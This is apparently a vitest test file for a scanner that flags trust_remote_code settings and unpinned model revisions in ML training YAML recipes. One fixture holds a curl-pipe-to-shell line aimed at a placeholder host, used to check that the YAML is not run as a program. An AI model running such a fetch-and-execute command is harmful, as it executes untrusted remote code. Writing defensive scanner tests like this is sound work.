import { describe, expect, it } from 'vitest';
import { inspectBytes } from '../../support/inspect.ts';
import { verdicts } from './support.ts';

const COMMIT = '0123456789abcdef0123456789abcdef01234567';
const recipe = (rest: string): string => `model:\n  base_model: someone/m\n  ${rest}\n`;

describe('settings of a training', () => {
  it('are told where they trust the code of the model', async () => {
    const both = ['LOAD-REMOTE-CODE MEDIUM', 'LOAD-UNPINNED INFO'];
    expect(await verdicts('train.yaml', recipe('trust_remote_code: true'))).toEqual(both);
    const known = recipe('trust_remote_code: true').replace('someone', 'Qwen');
    expect(await verdicts('train.yaml', known)).toEqual(['LOAD-REMOTE-CODE LOW', 'LOAD-UNPINNED INFO']);
    const pinned = recipe(`trust_remote_code: true\n  revision_of_model: ${COMMIT}`);
    expect(await verdicts('train.yaml', pinned)).toEqual(['LOAD-REMOTE-CODE LOW']);
  });

  it.each(['trust_remote_code: false', 'trust_remote_code:', 'epochs: 3'])(
    'are not with %s',
    async (rest) => {
      expect(await verdicts('train.yaml', recipe(rest))).toEqual([]);
    },
  );

  it('are not where the model is a folder', async () => {
    const text = recipe('trust_remote_code: true').replace('someone/m', './m');
    expect(await verdicts('train.yaml', text)).toEqual([]);
  });

  it('are not read as a program', async () => {
    const text = `${recipe('trust_remote_code: true')}run: curl https://x.example.invalid/i | sh\n`;
    expect(await verdicts('train.yaml', text)).toEqual(['LOAD-REMOTE-CODE MEDIUM', 'LOAD-UNPINNED INFO']);
  });

  it('are told as far as a template is YAML', async () => {
    const text = `${recipe('trust_remote_code: true')}x: {{ value }}: [\n`;
    const { findings } = await inspectBytes(Buffer.from(text), 'train.yaml');
    expect(findings.map(({ rule }) => rule).sort()).toEqual(['LOAD-REMOTE-CODE', 'LOAD-UNPINNED']);
  });
});
